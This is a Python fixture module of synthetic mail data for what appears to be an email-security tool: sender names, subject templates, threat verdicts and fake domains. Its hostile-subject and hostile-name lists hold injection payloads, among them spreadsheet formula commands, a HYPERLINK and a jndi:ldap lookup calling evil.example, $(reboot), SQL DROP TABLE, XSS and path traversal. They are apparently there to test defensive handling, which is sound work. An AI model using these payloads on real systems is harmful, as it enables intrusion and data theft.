"""The texts of the tenant's mail. Some are hostile on purpose, because attackers write subjects too."""

from typing import Final

_FIRST_NAMES: Final = (
    "dana lee amira ben carla dmitri elena farid greta hiro ines jonas kofi laila marco nadia omar petra quentin rosa "
    "samir tara ulrich vera wen ximena yusuf zoe anil bianca cyrus daphne emil fatou goran hana ivan jaya karim lucia "
    "mateo nora oscar priya rafael sanna tomas uma viktor willa xander yara zeno aisha bruno clara diego edith felix "
    "gina hugo"
)
_LAST_NAMES: Final = (
    "abara bauer costa dubois eriksen fischer garcia haddad ito jensen kowalski lindgren moreau nakamura okafor patel "
    "quist rossi silva tanaka ueda vargas weber xu yilmaz zhang adler brandt cohen duarte esposito farah grant hansen "
    "ivanov jung keller lopez mbeki novak oduya park"
)
FIRST_NAMES: Final = tuple(_FIRST_NAMES.split())
LAST_NAMES: Final = tuple(_LAST_NAMES.split())
MONTHS: Final = (
    "January", "February", "March", "April", "May", "June",
    "July", "August", "September", "October", "November", "December",
)  # fmt: skip
FILE_STEMS: Final = ("minutes", "offer", "invoice", "roadmap", "contract", "budget", "scan", "timesheet", "CV", "plan")

SUBJECTS: Final[dict[str, tuple[str, ...]]] = {
    "colleague": (
        "Minutes of Monday's meeting", "Re: roadmap review #", "Lunch on Thursday?", "Fwd: onboarding checklist",
        "Budget # - second draft", "Holiday calendar", "Re: Re: server room access", "Please review change #",
        "Welcome to the team", "Standup notes #", "Reminder: timesheets are due", "Team dinner, who comes?",
        "Desk move on Friday", "Question about ticket #",
    ),
    "partner": (
        "Offer # for your approval", "Delivery # has been scheduled", "Invoice # for October", "Re: contract extension",
        "Purchase order # confirmed", "Maintenance window # announced", "Your order # has shipped",
        "Meeting request: quarterly review", "Support case # updated", "Signed copy of agreement #",
    ),
    "newsletter": (
        "This week in logistics: issue #", "The # trends that shape your industry", "Webinar: register before Friday",
        "Your weekly digest #", "New in the shop: # offers", "Event invitation: summit #",
    ),
    "spammer": (
        "You have won # points", "Cheap printer ink, # left", "Lose # kilos in a week", "Exclusive loan offer #",
        "Dear friend, a business proposal", "Final notice: claim your prize #",
    ),
    "outsider": (
        "Quick question", "Document # was shared with you", "Voice message from +1 555 #", "Are you available?",
        "Scan from printer #", "Action needed on your mailbox",
    ),
    "impostor": (
        "Payroll: please confirm your details", "IT service desk ticket #", "Password expiry notice #",
        "New message from the board", "Updated bank details",
    ),
    "attacker": (
        "Overdue payment # - last reminder", "Your mailbox is full: verify now", "Secure document # awaits you",
        "Parcel # could not be delivered", "Unusual sign-in blocked, case #", "Remittance advice #",
    ),
    "swindler": ("Urgent wire transfer #", "Are you at your desk?", "Confidential acquisition", "Gift cards"),
}  # fmt: skip

HOSTILE_SUBJECTS: Final = (
    "Invoice {{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "<script>alert('subject')</script> <img src=x onerror=alert(1)>",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 555 0100 call me back",
    "-2+3+cmd|' /C notepad'!A0",
    "\u202egnp.eciovni\u202c open me",
    "\x1b[2J\x1b[31mYour terminal is mine\x1b[0m",
    "First line\r\nBcc: everyone@corp.example\r\n\r\nlog line two",
    "../../../../etc/passwd",
    "\u0000 nothing \u200b\u200b to see \ufeff",
    "\u0130stanbul \u017fale: \u212aelvin \U0001f4b8\U0001f4b8\U0001f4b8",
    "Very long " + "subject without an end " * 200,
    "${jndi:ldap://evil.example/a} $(reboot) `id` %s %n",
    "'; DROP TABLE messages; --",
    "tab\tand\x0bvertical\x0cform feed\x7f\x9b31m",
)
HOSTILE_NAMES: Final = (
    "Accounts Payable", '=HYPERLINK("https://evil.example","Pay")', "Microsoft\u202eSecurity", "<b>Support</b>",
    "{{ config }}", "Help Desk\x1b]0;owned\x07",
)  # fmt: skip

# The detection reasons and threat categories of each kind.
VERDICTS: Final[dict[str, tuple[tuple[str, ...], tuple[str, ...]]]] = {
    "newsletter": (("Bulk sending pattern",), ("Newsletter",)),
    "spammer": (("Known spam content",), ("Spam",)),
    "outsider": (("First message from this sender", "Link to a newly seen host"), ("Link",)),
    "impostor": (("Display name of an employee", "DMARC failure"), ("Spoof", "IdentityDeception")),
    "attacker": (("Malicious Domain: link to a credential form",), ("CredentialHarvester", "Link")),
    "swindler": (("Business email compromise: payment request",), ("BEC", "IdentityDeception")),
}
LINK_HOSTS: Final = {"attacker": "login", "outsider": "share", "impostor": "sso", "newsletter": "click"}

_DOMAINS: Final[dict[str, tuple[str, ...]]] = {
    "partner": tuple(f"{name}.example" for name in (
        "northwind-freight", "acme-tools", "blue-harbour", "delta-print", "orchid-legal", "summit-audit",
        "brightline-it", "terra-foods", "quarry-steel", "lumen-energy", "cobalt-cloud", "partner-bank",
    )),
    "newsletter": tuple(f"news.{name}.example" for name in ("logistics-weekly", "trade-post", "shop-club")),
    "spammer": tuple(f"{name}.test" for name in ("ink-outlet", "win-points", "slim-now", "easy-loans", "prize-hall")),
    "outsider": tuple(f"{name}.test" for name in ("file-drop", "voice-box", "quick-scan", "mail-helper")),
    "impostor": ("c0rp.example", "corp-example.test", "corp.example.test"),
    "attacker": tuple(f"{name}.test" for name in ("secure-docs", "mailbox-verify", "parcel-desk", "remit-portal")),
    "swindler": ("executive-mail.test", "ceo-office.test"),
}  # fmt: skip
_LOCAL_PARTS: Final[dict[str, tuple[str, ...]]] = {
    "partner": ("orders", "support", "billing", "sales", "j.meyer", "anna.holt"),
    "newsletter": ("digest", "news"),
    "impostor": ("hr", "it-service", "ceo", "payroll"),
}


def addresses(kind: str) -> list[str]:
    """Return the addresses of senders of a kind."""
    parts = _LOCAL_PARTS.get(kind, ("info", "noreply", "team"))
    return [f"{part}@{domain}" for domain in _DOMAINS[kind] for part in parts]


def person(address: str) -> str:
    """Return the name for an address: Dana Weber for `dana.weber@corp.example`."""
    return address.partition("@")[0].replace(".", " ").replace("-", " ").title()
